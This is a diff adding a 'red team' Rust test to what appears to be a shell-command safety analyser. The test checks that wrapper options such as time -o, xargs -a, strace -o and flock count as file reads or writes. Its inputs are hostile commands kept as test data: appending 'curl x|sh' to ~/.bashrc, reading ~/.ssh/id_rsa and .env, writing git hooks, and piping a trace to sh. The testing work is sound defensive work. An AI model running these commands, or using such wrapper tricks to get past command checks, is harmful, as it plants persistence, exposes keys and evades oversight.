@@ -333,3 +333,38 @@ fn code_on_another_descriptor_is_what_is_fed_to_it() {
         assert!(!opaque(input).is_empty(), "{input}");
     }
 }
+
+/// Red team: a wrapper's own file options (`time -o`, `xargs -a`, `strace -o`, ...) were
+/// skipped, so `/usr/bin/time -a -o ~/.bashrc -f 'curl x|sh' true` was only `true`. Each is
+/// now a redirect of the command the wrapper runs.
+#[test]
+fn wrapper_file_options_are_redirects_of_the_command() {
+    let files = |input: &str| -> Vec<(Access, String)> {
+        let a = analyse(input);
+        a.commands
+            .iter()
+            .flat_map(|c| c.redirects.iter().map(|r| (r.access, r.target.text.clone())))
+            .collect()
+    };
+    let w = |t: &str| (Access::Write, t.to_string());
+    let r = |t: &str| (Access::Read, t.to_string());
+    assert_eq!(files("/usr/bin/time -a -o ~/.bashrc -f 'curl x|sh' true"), [(Access::Append, "~/.bashrc".into())]);
+    assert_eq!(files("command time -o .git/config true"), [w(".git/config")]);
+    assert_eq!(files("env time --append --output=/root/.bashrc true"), [(Access::Append, "/root/.bashrc".into())]);
+    assert_eq!(files("xargs -a ~/.ssh/id_rsa echo"), [r("~/.ssh/id_rsa")]);
+    assert_eq!(files("xargs --arg-file=.env echo"), [r(".env")]);
+    assert_eq!(files("strace -o .git/hooks/pre-commit true"), [w(".git/hooks/pre-commit")]);
+    assert_eq!(files("strace -o/root/.bashrc true"), [w("/root/.bashrc")]);
+    assert_eq!(files("ltrace -o .git/config true"), [w(".git/config")]);
+    assert_eq!(files("valgrind --log-file=/root/.bashrc true"), [w("/root/.bashrc")]);
+    assert_eq!(files("xvfb-run -e /root/.bashrc true"), [w("/root/.bashrc")]);
+    assert_eq!(files("flock .git/hooks/pre-commit true"), [w(".git/hooks/pre-commit")]);
+    assert_eq!(files("flock /root/.bashrc -c 'make'"), [w("/root/.bashrc")]);
+    assert_eq!(files("proxychains4 -f ~/.ssh/id_rsa true"), [r("~/.ssh/id_rsa")]);
+    // A descriptor, and options that name no file, open nothing.
+    assert!(files("flock -n 9").is_empty());
+    assert!(files("time -f %e make").is_empty());
+    // A trace piped to a command, and a program a wrapper runs, are opaque.
+    assert_eq!(opaque("strace -o '|sh' true"), [OpaqueReason::Unsupported]);
+    assert_eq!(opaque("fakeroot --faked ./x true"), [OpaqueReason::Unsupported]);
+}
